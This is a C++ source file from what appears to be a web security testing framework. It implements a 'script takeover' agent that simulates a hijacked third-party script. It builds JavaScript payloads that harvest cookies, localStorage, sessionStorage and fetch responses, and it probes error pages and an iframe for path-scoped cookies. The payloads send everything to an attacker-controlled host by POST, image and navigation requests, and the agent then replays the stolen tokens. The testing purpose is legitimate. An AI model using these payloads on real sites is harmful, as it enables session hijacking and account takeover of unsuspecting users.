// script-takeover: a script that the app's pages load from elsewhere has become the attacker's, as
// when a library's maker is broken into. It takes what a session may be made of, cookies, storage
// and what the page's own scripts are answered, and he uses that from his own computer when the
// page is long closed (OWASP HTML5 Security Cheat Sheet, "Local Storage"; ASVS 5.0, 3.3.4). What a
// script does within the page is not tried: no cookie helps against that.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

constexpr auto kLater = std::chrono::minutes(20);
constexpr char kKept[] =
    "document.cookie+\"\\n\"+JSON.stringify(localStorage)+\"\\n\"+JSON.stringify(sessionStorage)";

class ScriptTakeover final : public Agent {
    void run(Target& target) override {
        OwnHost* host = foreign_host(target);
        std::string const path(target.option(option::kScript));
        if (host == nullptr || path.empty() || target.victim() == nullptr) return;
        std::string const address = collecting_address(*host);
        serve(*host, path, listening_script(target, address));
        auto const routines = routines_option(target, option::kDoes);
        victim_does(target, routines);
        if (!victim_signs_in(target)) return;
        victim_does(target, routines);
        // Then the page's own scripts renew what has run out.
        target.wait(kLater);
        victim_does(target, routines);
        victim_does(target, split(target.option(option::kLater), ','));
        // A policy may have forgotten that a page can be left. With what the page says itself.
        serve(*host, path, failing_script(target, address) + leaving_script(target, address));
        victim_does(target, routines);
        use_loot(target, *host);
    }

    static void serve(OwnHost& host, std::string const& path, std::string script) {
        host.answer(path, {.status = 200,
                           .headers = {{"content-type", "text/javascript"}},
                           .body = std::move(script)});
    }

    static std::string listening_script(Target const& target, std::string const& address) {
        // In a scope of its own: the page's scripts have names, too.
        std::string script =
            "(()=>{const f=window.fetch;const send=t=>{f(" + script_string(address) +
            ",{method:\"POST\",mode:\"no-cors\",body:t});" +
            send_script(Channel::Image, address, "t") + "};const look=()=>send(" + kKept +
            ");look();window.fetch=(...a)=>f(...a).then(r=>{"
            "r.clone().text().then(t=>{send(t+\"\\n\"+[...r.headers].join(\"\\n\"));look()});"
            "return r});";
        // As the page's own script would ask for new ones.
        if (Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh"))
            script += "f(" + script_string(refresh->path) +
                      ",{method:" + script_string(refresh->method) +
                      ",credentials:\"include\"}).then(r=>r.text().then(t=>{"
                      "send(t+\"\\n\"+[...r.headers].join(\"\\n\"));look()}));";
        return script + "})();";
    }

    // What cannot be answered may be answered with what came: an address that is nowhere, and a
    // body that nobody reads, wherever a cookie may go.
    static std::string failing_script(Target const& target, std::string const& address) {
        std::string script = "for(const f of[fetch(\"/no-such-page\")";
        for (std::string_view const id : {option::kLogin, option::kRefresh})
            if (Endpoint const* each = endpoint_option(target, id, id))
                script += ",fetch(" + script_string(each->path) +
                          ",{method:\"POST\",headers:{\"content-type\":"
                          "\"application/x-www-form-urlencoded;charset=none\"},body:\"a=b\"})";
        return script + "])f.then(r=>r.text()).then(t=>{" +
               send_script(Channel::Fetch, address, "t") + "});";
    }

    // A cookie may have a path of its own, and is in reach of a document that lies there.
    static std::string leaving_script(Target const& target, std::string const& address) {
        Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh");
        if (refresh == nullptr) return send_script(Channel::Navigation, address, kAllInReach);
        return "(()=>{let c;const i=document.createElement(\"iframe\");const go=()=>{if(c)return;"
               "c=\"\\n\";try{c+=i.contentWindow.document.cookie}catch{}" +
               send_script(Channel::Navigation, address,
                           "c.slice(1)+\"\\n\"+" + std::string(kAllInReach)) +
               "};i.onload=go;setTimeout(go,2000);i.src=" + script_string(refresh->path) +
               ";document.documentElement.appendChild(i)})();";
    }

    static void use_loot(Target& target, OwnHost const& host) {
        target.note(std::to_string(host.received().size()) + " messages came from the script.");
        renew(target, host);
        try_loot(target, received_texts(target));
    }

    // The newest first: an older one may be used up, and to show it is noticed.
    static void renew(Target& target, OwnHost const& host) {
        std::size_t tried = 0;
        auto const& received = host.received();
        for (auto request = received.rbegin(); request != received.rend(); ++request) {
            std::size_t const query =
                std::min(request->target.find('?'), request->target.size() - 1) + 1;
            std::string const text = request->body.empty()
                                         ? http::percent_decode(request->target.substr(query))
                                         : request->body;
            // The first line is document.cookie, or some other answer's.
            std::vector<Credentials> ways{cookies_in(text.substr(0, text.find('\n')))};
            for (std::string& each : tokens_in(text, kMostTokens))
                ways.push_back({{Credential::Kind::Token, "token", std::move(each)}});
            for (Credentials const& way : ways) {
                if (way.empty() || ++tried > kMostTokens) continue;
                Credentials const renewed = refresh(target, way);
                use(target, renewed);
                if (!renewed.empty()) return;
            }
        }
    }

    static constexpr std::size_t kMostTokens = 12;
};

}  // namespace

std::unique_ptr<Agent> make_script_takeover() { return std::make_unique<ScriptTakeover>(); }

}  // namespace parapet::attack
